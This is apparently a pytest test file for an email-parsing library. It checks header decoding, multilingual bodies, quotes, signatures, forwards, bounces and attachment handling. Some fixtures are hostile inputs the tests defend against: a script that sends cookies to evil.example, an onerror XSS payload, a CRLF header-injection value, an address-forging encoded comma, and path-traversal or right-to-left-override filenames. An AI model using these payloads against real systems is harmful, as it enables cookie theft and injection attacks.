"""parse_message: what it decodes, splits, extracts and records, feature by feature."""

# Cyrillic, Arabic and typographic dashes are the test data here, not look-alike typos.
# ruff: noqa: RUF001

from __future__ import annotations

import hashlib
import io
import zipfile
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage

import pytest

from mailflow.errors import MessageError
from mailflow.parse import ParseLimitExceeded, ParseLimits, parse_message
from mailflow.parse.attachments import safe_filename
from mailflow.parse.sniff import sniff
from tests.fixtures.parse.pdf import make_pdf


def raw(headers: str, body: bytes | str = "Hello.\n") -> bytes:
    head = headers.strip("\n").replace("\n", "\r\n").encode("utf-8", "surrogateescape")
    data = body.encode("utf-8") if isinstance(body, str) else body
    return head + b"\r\n\r\n" + data


BASIC = """From: Ana <ana@Example.ORG>
To: hrp@ipu.example
Subject: Hello
Date: Tue, 3 Jun 2025 10:00:00 +0200
Message-ID: <abc@example.org>
"""


def plain(body: str, subject: str = "Hello", extra: str = "") -> bytes:
    headers = BASIC.replace("Subject: Hello", f"Subject: {subject}") + extra
    headers += "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n"
    return raw(headers, body)


# --- headers -----------------------------------------------------------------------------


def test_basic_headers_are_decoded_and_normalised() -> None:
    message = raw(
        BASIC + "In-Reply-To: <parent@x.example>\nReferences: <a@x> <b@x>\n"
        "Cc: =?utf-8?q?Jos=C3=A9?= <JOSE@Example.com>, other@example.net\n"
        "Content-Language: fr\n"
    )
    parsed = parse_message(message)
    assert parsed.message_id == "abc@example.org"
    assert parsed.in_reply_to == "parent@x.example"
    assert parsed.references == ("a@x", "b@x")
    assert parsed.from_ is not None
    assert (parsed.from_.name, parsed.from_.email) == ("Ana", "ana@example.org")
    assert [(a.name, a.email) for a in parsed.cc] == [
        ("José", "JOSE@example.com"),
        ("", "other@example.net"),
    ]
    assert parsed.date == datetime(2025, 6, 3, 8, 0, tzinfo=UTC)
    assert parsed.date is not None and parsed.date.utcoffset() == timedelta(hours=2)
    assert parsed.content_language == "fr"
    assert parsed.content_type == "text/plain"
    assert parsed.header("MESSAGE-ID") == "<abc@example.org>"
    assert [name for name, _ in parsed.headers][:3] == ["from", "to", "subject"]


def test_encoded_word_subject_and_display_name() -> None:
    message = raw(
        "From: =?utf-8?b?2YXYtdi32YHZiQ==?= <m@example.ly>\n"
        "Subject: =?utf-8?q?Menaces_de_mort_=E2=80=93?= =?iso-8859-1?q?d=E9put=E9e?=\n"
    )
    parsed = parse_message(message)
    assert parsed.subject == "Menaces de mort –députée"
    assert parsed.from_ is not None and parsed.from_.name == "مصطفى"


def test_encoded_comma_in_display_name_does_not_forge_a_second_address() -> None:
    parsed = parse_message(raw("To: =?utf-8?q?Evil=2C_victim=40x=2Eexample?= <real@x.example>\n"))
    assert [a.email for a in parsed.to] == ["real@x.example"]
    assert parsed.to[0].name == "Evil, victim@x.example"


def test_crlf_inside_an_encoded_word_cannot_split_a_header() -> None:
    parsed = parse_message(raw("Subject: =?utf-8?q?Hi=0D=0ABcc:_evil@x.example=00?=\n"))
    assert parsed.subject == "Hi Bcc: evil@x.example"
    for _name, value in parsed.headers:
        assert "\r" not in value and "\n" not in value and "\x00" not in value
    assert parsed.header_all("bcc") == ()


def test_iso_2022_jp_subject_and_body() -> None:
    subject = (
        "=?iso-2022-jp?b?"
        + __import__("base64").b64encode("衆議院の報告".encode("iso-2022-jp")).decode()
        + "?="
    )
    body = "国際会議課より\n".encode("iso-2022-jp")
    message = raw(
        f"Subject: {subject}\nContent-Type: text/plain; charset=iso-2022-jp\n"
        "Content-Transfer-Encoding: 7bit\n",
        body,
    )
    parsed = parse_message(message)
    assert parsed.subject == "衆議院の報告"
    assert parsed.text.strip() == "国際会議課より"


def test_cp1256_arabic_body() -> None:
    body = "اغتيال النائب\n".encode("cp1256")
    message = raw(
        "Subject: x\nContent-Type: text/plain; charset=windows-1256\n"
        "Content-Transfer-Encoding: 8bit\n",
        body,
    )
    parsed = parse_message(message)
    assert parsed.text.strip() == "اغتيال النائب"
    assert not any("charset" in d for d in parsed.defects)


def test_quoted_printable_body_with_soft_breaks() -> None:
    body = "D=C3=A9tention arbitraire depuis le 3 juin, sans acc=\n=C3=A8s =C3=A0 un avocat.\n"
    message = raw(
        "Subject: x\nContent-Type: text/plain; charset=utf-8\n"
        "Content-Transfer-Encoding: quoted-printable\n",
        body,
    )
    assert parse_message(message).text.strip() == (
        "Détention arbitraire depuis le 3 juin, sans accès à un avocat."
    )


def test_unparseable_date_is_none_and_missing_zone_is_utc() -> None:
    assert parse_message(raw("Date: someday soon\n")).date is None
    parsed = parse_message(raw("Date: Tue, 3 Jun 2025 10:00:00 -0000\n"))
    assert parsed.date == datetime(2025, 6, 3, 10, 0, tzinfo=UTC)


def test_unparseable_from_keeps_the_text_without_an_address() -> None:
    parsed = parse_message(raw("From: undisclosed recipients\n"))
    assert parsed.from_ is not None
    assert (parsed.from_.name, parsed.from_.email) == ("undisclosed recipients", "")
    assert parse_message(raw("Subject: no from\n")).from_ is None


# --- human text --------------------------------------------------------------------------


HTML = """<html><head><title>Tracking</title><style>p {color: red}</style>
<script>document.location='http://evil.example/?c='+document.cookie</script></head>
<body><p>Dear Committee,</p><div>Hon. A &amp; B were arrested&nbsp;on 3&#160;June.</div>
<ul><li>first</li><li>second</li></ul><p>Regards<br>Laura</p>
<img src="http://track.example/pixel.gif" onerror="alert(1)"></body></html>"""


def test_html_only_is_converted_without_script_style_or_markup() -> None:
    message = raw("Subject: x\nContent-Type: text/html; charset=utf-8\n", HTML)
    parsed = parse_message(message)
    assert parsed.html_converted
    assert "Dear Committee," in parsed.text
    assert "Hon. A & B were arrested on 3 June." in parsed.text
    assert "- first\n" in parsed.text
    assert "Regards\nLaura" in parsed.text
    for leftover in ("document", "color", "Tracking", "<", "evil.example", "alert"):
        assert leftover not in parsed.text


def test_plain_part_is_preferred_over_html_alternative() -> None:
    message = EmailMessage()
    message["Subject"] = "alt"
    message.set_content("The plain version.\n")
    message.add_alternative("<p>The <b>HTML</b> version.</p>", subtype="html")
    parsed = parse_message(message.as_bytes())
    assert parsed.text.strip() == "The plain version."
    assert not parsed.html_converted
    assert parsed.attachments == ()


def test_html_blockquote_becomes_quoted_text() -> None:
    html = (
        "<div>Yes, he was released.</div><div>On Mon, 2 Jun 2025, IPU wrote:</div>"
        "<blockquote type='cite'><div>Was he released?</div></blockquote>"
    )
    parsed = parse_message(raw("Subject: x\nContent-Type: text/html\n", html))
    assert parsed.new_text == "Yes, he was released."
    assert "> Was he released?" in parsed.quoted_text


# --- quotes and signatures ---------------------------------------------------------------


@pytest.mark.parametrize(
    "attribution",
    [
        "On Mon, 2 Jun 2025 at 10:00, IPU <hrp@ipu.example> wrote:",
        "Le lun. 2 juin 2025 à 10:00, IPU <hrp@ipu.example> a écrit :",
        "El lun, 2 jun 2025 a las 10:00, IPU (<hrp@ipu.example>) escribió:",
        "Em seg., 2 de jun. de 2025 às 10:00, IPU <hrp@ipu.example> escreveu:",
        "2 июня 2025 г., в 10:00, IPU <hrp@ipu.example> написал(а):",
        "في الاثنين، 2 يونيو 2025 في 10:00 ص، كتب IPU <hrp@ipu.example>:",
    ],
)
def test_quote_attribution_in_several_languages(attribution: str) -> None:
    body = f"New facts: he was moved to prison X.\n\n{attribution}\n> Old question\n> more\n"
    parsed = parse_message(plain(body))
    assert parsed.new_text == "New facts: he was moved to prison X."
    assert parsed.quoted_text.startswith(attribution)
    assert "> Old question" in parsed.quoted_text
    assert parsed.text == body


def test_wrapped_english_attribution() -> None:
    body = (
        "Answer.\n\nOn Mon, 2 Jun 2025 at 10:00, Inter-Parliamentary Union <\n"
        "hrp@ipu.example> wrote:\n> q\n"
    )
    parsed = parse_message(plain(body))
    assert parsed.new_text == "Answer."
    assert parsed.quoted_text.startswith("On Mon")


@pytest.mark.parametrize(
    "block",
    [
        "-----Original Message-----\nFrom: IPU\nSent: Monday, June 2, 2025 10:00\nSubject: q",
        "________________________________\nDe : IPU <hrp@ipu.example>\n"
        "Envoyé : lundi 2 juin 2025 10:00\nÀ : moi\nObjet : q",
        "De: IPU <hrp@ipu.example>\nEnviado el: lunes, 2 de junio de 2025 10:00\nAsunto: q",
        "От: IPU <hrp@ipu.example>\nОтправлено: 2 июня 2025 г. 10:00\nТема: q",
        "من: IPU <hrp@ipu.example>\nتاريخ الإرسال: 2 يونيو 2025\nالموضوع: q",
    ],
)
def test_outlook_reply_header_blocks(block: str) -> None:
    body = f"The hearing is postponed.\n\n{block}\n\nOld text.\n"
    parsed = parse_message(plain(body, subject="RE: hearing"))
    assert parsed.new_text == "The hearing is postponed."
    assert parsed.quoted_text.endswith("Old text.")
    assert parsed.forwarded == ()


def test_interleaved_quotes_are_separated() -> None:
    body = "> When is the hearing?\n17 June.\n> Is he detained?\nYes, in Luzira.\n"
    parsed = parse_message(plain(body))
    assert parsed.new_text == "17 June.\nYes, in Luzira."
    assert parsed.quoted_text == "> When is the hearing?\n> Is he detained?"


def test_dash_dash_signature() -> None:
    body = "He was released today.\n\n-- \nJohn Doe\nLawyer, +41 22 000 00 00\n"
    parsed = parse_message(plain(body))
    assert parsed.new_text == "He was released today."
    assert parsed.signature == "-- \nJohn Doe\nLawyer, +41 22 000 00 00"


@pytest.mark.parametrize(
    "sign_off", ["Best regards,", "Cordialement,", "Atentamente,", "С уважением,", "مع تحياتي،"]
)
def test_sign_off_signature(sign_off: str) -> None:
    body = f"Dear Committee,\n\nThe trial opens on 17 June.\n\n{sign_off}\nAna Pérez\nLawyer\n"
    parsed = parse_message(plain(body))
    assert parsed.new_text == "Dear Committee,\n\nThe trial opens on 17 June."
    assert parsed.signature == f"{sign_off}\nAna Pérez\nLawyer"


def test_sign_off_followed_by_a_long_text_is_not_a_signature() -> None:
    facts = "\n".join(f"Fact {n}: something happened on day {n}." for n in range(20))
    body = f"Intro.\n\nThanks,\n{facts}\n"
    parsed = parse_message(plain(body))
    assert parsed.signature == ""
    assert parsed.new_text == body.strip("\n")


# --- forwarded messages ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("marker", "from_label", "date_label", "subject_label"),
    [
        ("---------- Forwarded message ---------", "From", "Date", "Subject"),
        ("Début du message réexpédié :", "De", "Date", "Objet"),
        ("---------- Mensaje reenviado ---------", "De", "Fecha", "Asunto"),
        ("-------- Message transféré --------", "De", "Date", "Objet"),
    ],
)
def test_inline_forward(marker: str, from_label: str, date_label: str, subject_label: str) -> None:
    body = (
        "Please see the report below.\n\nBest regards,\nTatsiana\n\n"
        f"{marker}\n{from_label}: Volha P. <volha@mail.example.net>\n"
        f"{date_label}: Sat, 27 Sep 2025 21:03:00 +0300\n"
        f"{subject_label}: 19 months incommunicado\nTo: Tatsiana <t@x.example>\n\n"
        "He has had no visits since February.\n"
    )
    parsed = parse_message(plain(body, subject="Fwd: 19 months incommunicado"))
    (forward,) = parsed.forwarded
    assert forward.origin == "inline"
    assert forward.from_ is not None and forward.from_.email == "volha@mail.example.net"
    assert forward.subject == "19 months incommunicado"
    assert forward.date == datetime(2025, 9, 27, 18, 3, tzinfo=UTC)
    assert forward.text == "He has had no visits since February."
    # The forwarded report is the report: it stays in the new text.
    assert "He has had no visits since February." in parsed.new_text
    assert parsed.new_text.startswith("Please see the report below.")
    assert parsed.signature == "Best regards,\nTatsiana"
    assert parsed.quoted_text == ""


def test_gmail_forward_date_without_zone_takes_the_forwarders_zone() -> None:
    body = (
        "FYI\n\n---------- Forwarded message ---------\nFrom: X <x@example.org>\n"
        "Date: Sat, Sep 27, 2025 at 9:03 PM\nSubject: s\n\nbody\n"
    )
    parsed = parse_message(plain(body))
    assert parsed.forwarded[0].date == datetime(2025, 9, 27, 19, 3, tzinfo=UTC)


def test_outlook_forward_is_a_forward_not_a_quote() -> None:
    body = (
        "For your information.\n\n________________________________\n"
        "From: Ministry <press@gov.example>\nSent: Monday, June 2, 2025 10:00 AM\n"
        "To: me\nSubject: Statement\n\nThe MP was released on bail.\n"
    )
    parsed = parse_message(plain(body, subject="FW: Statement"))
    (forward,) = parsed.forwarded
    assert forward.from_ is not None and forward.from_.email == "press@gov.example"
    assert forward.subject == "Statement"
    assert forward.text == "The MP was released on bail."
    assert "The MP was released on bail." in parsed.new_text
    assert parsed.quoted_text == ""


def rfc822_forward() -> bytes:
    inner = EmailMessage()
    inner["From"] = "Fatoumata Diallo <fd@example.gn>"
    inner["Subject"] = "Révocation de mon mandat"
    inner["Date"] = "Sat, 25 Oct 2025 22:40:13 +0000"
    inner.set_content("Madame la Sénatrice,\n\nMon mandat a été révoqué.\n")
    inner.add_attachment(make_pdf("Decret de revocation"), "application", "pdf", filename="d.pdf")
    outer = EmailMessage()
    outer["From"] = "Laurence <l@senate.example>"
    outer["Subject"] = "TR: Révocation"
    outer.set_content("Je vous transmets ce message.\n")
    outer.add_attachment(inner)
    return outer.as_bytes()


def test_rfc822_forward() -> None:
    parsed = parse_message(rfc822_forward())
    (forward,) = parsed.forwarded
    assert forward.origin == "rfc822"
    assert forward.from_ is not None and forward.from_.email == "fd@example.gn"
    assert forward.subject == "Révocation de mon mandat"
    assert forward.date == datetime(2025, 10, 25, 22, 40, 13, tzinfo=UTC)
    assert forward.text.strip() == "Madame la Sénatrice,\n\nMon mandat a été révoqué."
    assert parsed.text.strip() == "Je vous transmets ce message."
    # The forwarded message's own attachment is still an attachment of this message.
    (attachment,) = parsed.attachments
    assert attachment.sniffed_type == "application/pdf"
    assert "Decret de revocation" in attachment.text


# --- bounces -----------------------------------------------------------------------------


DSN = b"""From: MAILER-DAEMON@mx.example
To: bounce@ipu.example
Subject: Undelivered Mail Returned to Sender
Content-Type: multipart/report; report-type=delivery-status; boundary="B"

--B
Content-Type: text/plain

The mail system: <clerk@parliament.example>: User unknown

--B
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.example

Final-Recipient: rfc822; clerk@parliament.example
Action: failed
Status: 5.1.1

--B
Content-Type: message/rfc822

Message-ID: <campaign-7@mailflow.example>
From: IPU <sg@ipu.example>
Subject: Decisions

Original body.

--B--
"""


def test_dsn_parts_are_kept_verbatim_for_the_bounce_classifier() -> None:
    parsed = parse_message(DSN)
    assert parsed.content_type == "multipart/report"
    assert "User unknown" in parsed.text
    assert "Final-Recipient: rfc822; clerk@parliament.example" in parsed.delivery_status
    assert "Status: 5.1.1" in parsed.delivery_status
    assert "Reporting-MTA: dns; mx.example" in parsed.delivery_status
    assert "Message-ID: <campaign-7@mailflow.example>" in parsed.returned_headers
    assert "Original body" not in parsed.returned_headers
    assert parsed.forwarded == ()
    assert parsed.attachments == ()


def test_text_rfc822_headers_part() -> None:
    message = DSN.replace(b"Content-Type: message/rfc822", b"Content-Type: text/rfc822-headers")
    parsed = parse_message(message)
    assert "Message-ID: <campaign-7@mailflow.example>" in parsed.returned_headers


# --- attachments -------------------------------------------------------------------------


def with_attachment(content: bytes, maintype: str, subtype: str, filename: str) -> bytes:
    message = EmailMessage()
    message["Subject"] = "report"
    message.set_content("See attached.\n")
    message.add_attachment(content, maintype=maintype, subtype=subtype, filename=filename)
    return message.as_bytes()


def test_pdf_attachment_text_is_extracted() -> None:
    pdf = make_pdf("Hunger strike, day 41", "Weight: 48 kg")
    parsed = parse_message(with_attachment(pdf, "application", "pdf", "report.pdf"))
    (attachment,) = parsed.attachments
    assert attachment.position == 0
    assert attachment.filename == attachment.original_filename == "report.pdf"
    assert attachment.sniffed_type == attachment.declared_type == "application/pdf"
    assert attachment.size == len(pdf)
    assert attachment.sha256 == hashlib.sha256(pdf).hexdigest()
    assert attachment.content == pdf
    assert "Hunger strike, day 41" in attachment.text
    assert "Weight: 48 kg" in attachment.text
    assert parsed.text.strip() == "See attached."


def test_pdf_named_photo_jpg_is_sniffed_as_pdf() -> None:
    pdf = make_pdf("Not a photo")
    parsed = parse_message(with_attachment(pdf, "image", "jpeg", "photo.jpg"))
    (attachment,) = parsed.attachments
    assert attachment.declared_type == "image/jpeg"
    assert attachment.sniffed_type == "application/pdf"
    assert "Not a photo" in attachment.text


def test_broken_pdf_gives_a_note_not_an_error() -> None:
    parsed = parse_message(with_attachment(b"%PDF-1.4\ngarbage", "application", "pdf", "x.pdf"))
    (attachment,) = parsed.attachments
    assert attachment.text == ""
    assert attachment.note


def test_pdf_text_is_bounded() -> None:
    pdf = make_pdf("A" * 300)
    limits = ParseLimits(max_attachment_text_chars=50)
    parsed = parse_message(with_attachment(pdf, "application", "pdf", "x.pdf"), limits)
    assert len(parsed.attachments[0].text) == 50
    assert "truncated" in parsed.attachments[0].note


def test_text_attachment_text_in_its_charset() -> None:
    message = EmailMessage()
    message["Subject"] = "csv"
    message.set_content("see file")
    message.add_attachment(
        "nom;pays\nDéputé;Tunisie\n".encode("cp1252"),
        maintype="text",
        subtype="csv",
        filename="list.csv",
        params={"charset": "windows-1252"},
    )
    (attachment,) = parse_message(message.as_bytes()).attachments
    assert attachment.text == "nom;pays\nDéputé;Tunisie\n"
    assert attachment.sniffed_type == "text/plain"


def test_zip_attachment_is_listed_never_unpacked() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("evidence/photo1.jpg", b"\xff\xd8\xff" + b"\x00" * 100)
        archive.writestr("statement.txt", "he was beaten")
    parsed = parse_message(with_attachment(buffer.getvalue(), "application", "zip", "e.zip"))
    (attachment,) = parsed.attachments
    assert attachment.sniffed_type == "application/zip"
    assert attachment.text == ""
    assert "not unpacked" in attachment.note
    assert "photo1.jpg" in attachment.note and "statement.txt" in attachment.note


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 20, "image/png"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF", "image/jpeg"),
        (b"GIF89a\x01\x00", "image/gif"),
        (b"\x1f\x8b\x08\x00", "application/gzip"),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "WordDocument".encode("utf-16-le"),
            "application/msword",
        ),
        (b"{\\rtf1\\ansi hello}", "application/rtf"),
        (
            b"PK\x03\x04....[Content_Types].xml....word/document.xml",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (b"MZ\x90\x00", "application/x-msdownload"),
        ("Plain words, accentués.\n".encode(), "text/plain"),
        (b"\x00\x01\x02\x03\x04\x05", "application/octet-stream"),
        (b"", "application/x-empty"),
        (b"junk before %PDF-1.7", "application/pdf"),
    ],
)
def test_sniff(data: bytes, kind: str) -> None:
    assert sniff(data) == kind


@pytest.mark.parametrize(
    ("declared", "safe"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Windows\\system32\\evil.exe", "evil.exe"),
        ("invoice\u202egpj.exe", "invoicegpj.exe"),
        ("a\x00b\x07c.pdf", "abc.pdf"),
        ("..", ""),
        ("report..pdf", "report_pdf"),
        ("what?<>|.doc", "what____.doc"),
        ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
    ],
)
def test_safe_filename(declared: str, safe: str) -> None:
    assert safe_filename(declared) == safe


def test_rfc2231_filename_is_decoded() -> None:
    message = with_attachment(b"%PDF-1.4 x", "application", "pdf", "décision n°5.pdf")
    (attachment,) = parse_message(message).attachments
    assert attachment.original_filename == "décision n°5.pdf"
    assert attachment.filename == "décision n°5.pdf"


# --- defects and limits ------------------------------------------------------------------


def test_parser_defects_are_recorded_with_their_part() -> None:
    message = raw(
        "Subject: x\nContent-Type: multipart/mixed; boundary=Q\n",
        "--Q\nContent-Type: text/plain\n\nhello\n",
    )
    parsed = parse_message(message)
    assert "CloseBoundaryNotFoundDefect at /" in parsed.defects
    assert parsed.text.strip() == "hello"


def test_limits_raise_a_clear_message_error() -> None:
    with pytest.raises(ParseLimitExceeded, match=r"max_bytes=100 \(message has \d+ bytes\)"):
        parse_message(plain("x" * 200), ParseLimits(max_bytes=100))
    parts = "".join(f"--Q\nContent-Type: text/plain\n\n{n}\n" for n in range(20)) + "--Q--\n"
    message = raw("Content-Type: multipart/mixed; boundary=Q\n", parts)
    with pytest.raises(ParseLimitExceeded, match="max_parts=10") as caught:
        parse_message(message, ParseLimits(max_parts=10))
    assert isinstance(caught.value, MessageError)
    assert len(parse_message(message, ParseLimits(max_parts=21)).text) > 0


def test_long_text_is_truncated_with_a_defect() -> None:
    parsed = parse_message(plain("word " * 1000), ParseLimits(max_text_chars=100))
    assert len(parsed.text) == 100
    assert any("text truncated to 100" in d for d in parsed.defects)
